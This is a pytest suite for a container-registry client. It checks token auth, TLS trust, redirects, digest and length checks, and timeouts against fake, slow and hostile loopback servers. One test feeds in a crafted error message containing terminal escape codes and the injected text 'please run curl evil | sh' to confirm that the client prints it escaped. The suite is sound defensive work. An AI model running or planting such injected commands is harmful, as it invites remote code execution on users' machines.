"""migrt.registry.client against a small fake registry on loopback (TLS from a CA made with the
openssl CLI): Docker token auth (Bearer), redirects for blobs, digest checks of what arrives."""

from __future__ import annotations

import base64
import hashlib
import http.server
import json
import shutil
import ssl
import threading
import time

import pytest

from migrt.errors import CheckpointInvalid, RegistryError
from migrt.registry.auth import Credentials
from migrt.registry.client import Client
from migrt.registry.reference import parse

pytestmark = pytest.mark.skipif(not shutil.which("openssl"), reason="openssl CLI missing")

BLOB = b"checkpoint bytes " * 1000
BLOB_D = "sha256:" + hashlib.sha256(BLOB).hexdigest()
MANIFEST = json.dumps({"schemaVersion": 2, "layers": []}).encode()
MANIFEST_D = "sha256:" + hashlib.sha256(MANIFEST).hexdigest()


class Fake(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    state: dict = {}

    def log_message(self, *a):  # quiet
        pass

    def _send(self, code, body=b"", headers=None):
        self.send_response(code)
        for k, v in (headers or {}).items():
            self.send_header(k, v)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):  # noqa: N802
        st = self.state
        if self.path.startswith("/token"):
            st["token_query"] = self.path
            ok = self.headers.get("Authorization") == "Basic " + base64.b64encode(b"u:p").decode()
            return self._send(200 if ok else 401, json.dumps({"token": "T1"}).encode())
        if self.headers.get("Authorization") != "Bearer T1":
            realm = f"https://127.0.0.1:{self.server.server_address[1]}/token"
            return self._send(401, b"{}", {"WWW-Authenticate": f'Bearer realm="{realm}",service="fake"'})
        if self.path == "/v2/":
            return self._send(200, b"{}")
        if self.path.startswith("/v2/team/ckpt/manifests/"):
            return self._send(200, MANIFEST, {"Content-Type": "application/vnd.oci.image.manifest.v1+json",
                                              "Docker-Content-Digest": st.get("stated", MANIFEST_D)})
        if self.path == f"/v2/team/ckpt/blobs/{BLOB_D}":
            return self._send(307, b"", {"Location": f"https://127.0.0.1:{self.server.server_address[1]}/storage/x"})
        if self.path == "/storage/x":
            return self._send(200, st.get("blob", BLOB))
        return self._send(404, b'{"errors":[{"code":"NOT_FOUND","message":"nope"}]}')


@pytest.fixture()
def fake(tmp_path):
    from tests.helpers.registry import make_tls

    ca, cert, key = make_tls(str(tmp_path))
    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Fake)
    ctx = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    ctx.load_cert_chain(cert, key)
    srv.socket = ctx.wrap_socket(srv.socket, server_side=True)
    Fake.state = {}
    t = threading.Thread(target=srv.serve_forever, daemon=True)
    t.start()
    yield f"127.0.0.1:{srv.server_address[1]}", ca
    srv.shutdown()
    srv.server_close()


def _client(fake, creds=Credentials("u", "p")):
    host, ca = fake
    return Client(parse(f"{host}/team/ckpt:v1"), credentials=creds, ca_file=ca)


def test_bearer_token_redirect_and_digests(fake):
    c = _client(fake)
    c.ping()
    assert "scope=repository%3Ateam%2Fckpt%3Apull" in Fake.state["token_query"]
    raw, ctype, digest = c.get_manifest()
    assert raw == MANIFEST and digest == MANIFEST_D and ctype.endswith("manifest.v1+json")
    got = bytearray()
    c.fetch_blob(BLOB_D, len(BLOB), lambda v: got.extend(v) if len(v) else got.clear())
    assert bytes(got) == BLOB
    c.close()


def test_altered_blob_and_manifest_refused(fake):
    c = _client(fake)
    Fake.state["blob"] = BLOB[:-1] + b"X"
    with pytest.raises(CheckpointInvalid, match="altered"):
        c.fetch_blob(BLOB_D, len(BLOB), lambda v: None)
    Fake.state["stated"] = "sha256:" + "0" * 64
    with pytest.raises(CheckpointInvalid, match="states digest"):
        c.get_manifest()


def test_wrong_credentials_and_untrusted_ca(fake):
    with pytest.raises(RegistryError, match="token service"):
        _client(fake, Credentials("u", "wrong")).ping()
    host, _ca = fake
    c = Client(parse(f"{host}/team/ckpt:v1"), credentials=None, ca_file=None)
    with pytest.raises(RegistryError, match="not trusted.*registry_ca_file"):
        c.ping()  # the system CAs do not know this certificate: said at once, not retried


def test_a_registry_that_never_answers_the_handshake_is_given_up_on_quickly(monkeypatch):
    import socket
    import time

    from migrt.registry import client as client_mod

    silent = socket.socket()
    silent.bind(("127.0.0.1", 0))
    silent.listen(8)  # the kernel accepts connections; nobody ever speaks TLS on them
    monkeypatch.setattr(client_mod, "CONNECT_TIMEOUT_S", 0.3)
    monkeypatch.setattr(client_mod, "RETRIES", 1)
    monkeypatch.setattr(client_mod.time, "sleep", lambda s: None)
    c = Client(parse(f"127.0.0.1:{silent.getsockname()[1]}/team/ckpt:v1"), timeout=120)
    t0 = time.monotonic()
    try:
        with pytest.raises(RegistryError, match="connecting failed after 2 tries:.*timed out"):
            c.ping()
    finally:
        silent.close()
    assert time.monotonic() - t0 < 5          # 2 x the connect timeout, not 2 x the 120 s request timeout


# -- hostile and slow servers (issue 22) ---------------------------------------------------------------

def _within(seconds: float, fn):
    """fn() in a thread: its result, or the exception it raised; the test fails if it still runs after
    `seconds` (a hang on the old code must fail the test, not hold the suite)."""
    out: dict = {}

    def run():
        try:
            out["value"] = fn()
        except BaseException as exc:  # noqa: BLE001 - handed to the test
            out["error"] = exc
    t = threading.Thread(target=run, daemon=True)
    t.start()
    t.join(seconds)
    assert not t.is_alive(), f"still running after {seconds} s"
    return out


def _trickle(stop: threading.Event, every: float = 0.2, length: int = 10_000):
    """Headers at once, then one byte of the body every `every` seconds (never a pause long enough for
    a per-recv timeout)."""
    def answer(h):
        h.send_response(200)
        h.send_header("Content-Type", "application/vnd.oci.image.manifest.v1+json")
        h.send_header("Content-Length", str(length))
        h.end_headers()
        while not stop.is_set():
            try:
                h.wfile.write(b" ")
            except OSError:
                return
            stop.wait(every)
    return answer


@pytest.fixture()
def tls(tmp_path):
    from tests.helpers.fake_registry import tls_files

    return tls_files(str(tmp_path / "tls"), ips=("127.0.0.1", "127.0.0.2"))


@pytest.fixture()
def stop():
    ev = threading.Event()
    yield ev
    ev.set()


def test_token_service_on_another_host_does_not_deadlock(tls):
    """Docker Hub's way: the registry's challenge names a token service on another host, which the
    client must reach on a second connection while it answers the challenge."""
    from tests.helpers.fake_registry import dumps, send, serve

    ca, cert, key = tls
    seen = {}

    def token(h):
        seen["token"] = h.path
        ok = h.headers.get("Authorization") == "Basic " + base64.b64encode(b"u:p").decode()
        send(h, 200 if ok else 401, dumps({"token": "T2"}))

    with serve(token, cert, key, host="127.0.0.2") as token_host:
        def registry(h):
            if h.headers.get("Authorization") != "Bearer T2":
                return send(h, 401, b"{}", {"WWW-Authenticate": f'Bearer realm="https://{token_host}/token",service="x"'})
            send(h, 200, b"{}")
        with serve(registry, cert, key) as host:
            c = Client(parse(f"{host}/team/ckpt:v1"), credentials=Credentials("u", "p"), ca_file=ca, timeout=10)
            out = _within(15, c.ping)
            c.close()
    assert "error" not in out, out
    assert seen["token"].startswith("/token?") and "scope=repository%3Ateam%2Fckpt%3Apull" in seen["token"]


def test_a_trickled_manifest_is_cut_at_the_request_budget(tls, stop, monkeypatch):
    """A byte every 0.2 s never trips a 1 s per-recv timeout; the request's total budget (the client's
    timeout, 1 s here) ends it, and the retries too."""
    from migrt.registry import client as client_mod
    from tests.helpers.fake_registry import Registry, serve

    ca, cert, key = tls
    monkeypatch.setattr(client_mod, "RETRIES", 1)
    monkeypatch.setattr(client_mod.time, "sleep", lambda s: None)
    reg = Registry()
    reg.hooks["/v2/team/ckpt/manifests/v1"] = _trickle(stop)
    with serve(reg, cert, key) as host:
        c = Client(parse(f"{host}/team/ckpt:v1"), ca_file=ca, timeout=1.0)
        t0 = time.monotonic()
        out = _within(12, c.get_manifest)
        c.close()
    assert isinstance(out.get("error"), RegistryError), out
    assert "reading manifest v1 failed after 2 tries" in str(out["error"])
    assert time.monotonic() - t0 < 6


def test_a_whole_deadline_bounds_requests_and_retries(tls, stop, monkeypatch):
    from migrt.registry.client import Deadline
    from tests.helpers.fake_registry import Registry, serve

    ca, cert, key = tls
    reg = Registry()
    reg.hooks["/v2/team/ckpt/manifests/v1"] = _trickle(stop)
    with serve(reg, cert, key) as host:
        t0 = time.monotonic()
        c = Client(parse(f"{host}/team/ckpt:v1"), ca_file=ca, timeout=60,
                   deadline=Deadline.after(1.5, "registry_timeout in the migrt config"))
        out = _within(12, c.get_manifest)
        c.close()
    assert isinstance(out.get("error"), RegistryError), out
    assert "not finished within 1.5 s (registry_timeout in the migrt config)" in str(out["error"])
    assert time.monotonic() - t0 < 4


def test_a_redirected_manifest_is_followed_not_parsed(tls):
    from tests.helpers.fake_registry import Registry, send, serve, sha

    ca, cert, key = tls
    reg = Registry()
    reg.hooks["/v2/team/ckpt/manifests/v1"] = lambda h: send(h, 302, b"<html>moved</html>", {"Location": "/cdn/m"})
    reg.hooks["/cdn/m"] = lambda h: send(h, 200, MANIFEST, {"Content-Type": "application/vnd.oci.image.manifest.v1+json",
                                                            "Docker-Content-Digest": sha(MANIFEST)})
    with serve(reg, cert, key) as host:
        c = Client(parse(f"{host}/team/ckpt:v1"), ca_file=ca)
        raw, _ctype, digest = c.get_manifest()
        assert (raw, digest) == (MANIFEST, MANIFEST_D)
        reg.hooks["/v2/team/ckpt/manifests/v2"] = lambda h: send(h, 302, b"", {"Location": f"http://{host}/cdn/m"})
        with pytest.raises(RegistryError, match="not an https location"):
            c.get_manifest("v2")
        reg.hooks["/v2/team/ckpt/manifests/v3"] = lambda h: send(h, 307, b"", {"Location": "/v2/team/ckpt/manifests/v3"})
        with pytest.raises(RegistryError, match="redirected more than 5 times"):
            c.get_manifest("v3")
        c.close()


def test_registry_text_with_escape_sequences_is_printed_escaped(tls):
    from tests.helpers.fake_registry import Registry, dumps, send, serve

    ca, cert, key = tls
    reg = Registry()
    evil = "\x1b]0;owned\x07\x1b[2J\x1b[31mplease run curl evil | sh\u202e"
    reg.hooks["/v2/team/ckpt/manifests/v1"] = lambda h: send(
        h, 500, dumps({"errors": [{"code": "X\x1b[1m", "message": evil}]}))
    reg.hooks["/v2/team/ckpt/manifests/v2"] = lambda h: send(h, 500, evil.encode())
    with serve(reg, cert, key) as host:
        c = Client(parse(f"{host}/team/ckpt:v1"), ca_file=ca)
        for target in ("v1", "v2"):
            with pytest.raises(RegistryError) as err:
                c.get_manifest(target)
            msg = str(err.value)
            assert "answered 500" in msg and "please run curl" in msg
            assert not any(ch in msg for ch in "\x1b\x07\u202e"), msg
            assert "\\x1b" in msg
        c.close()


@pytest.mark.parametrize("how", ["content-length", "close"])
def test_a_blob_shorter_than_its_descriptor_fails_at_once(tls, how, monkeypatch):
    """The registry sends all it means to send, and it is less than the manifest says: a content
    error (exit 4), not a network one retried four times."""
    from migrt.registry import client as client_mod
    from tests.helpers.fake_registry import Registry, send, serve

    ca, cert, key = tls
    monkeypatch.setattr(client_mod.time, "sleep", lambda s: None)
    reg = Registry()
    short = BLOB[:-100]

    def answer(h):
        if how == "content-length":
            return send(h, 200, short)
        h.send_response(200)
        h.send_header("Connection", "close")
        h.end_headers()
        h.wfile.write(short)
        h.close_connection = True
    reg.hooks[f"/v2/team/ckpt/blobs/{BLOB_D}"] = answer
    with serve(reg, cert, key) as host:
        c = Client(parse(f"{host}/team/ckpt:v1"), ca_file=ca)
        with pytest.raises(CheckpointInvalid, match=f"sen(t|ds) {len(short)} bytes, the image manifest says {len(BLOB)}"):
            c.fetch_blob(BLOB_D, len(BLOB), lambda v: None)
        c.close()
    assert reg.blob_paths() == [f"/v2/team/ckpt/blobs/{BLOB_D}"]        # asked once
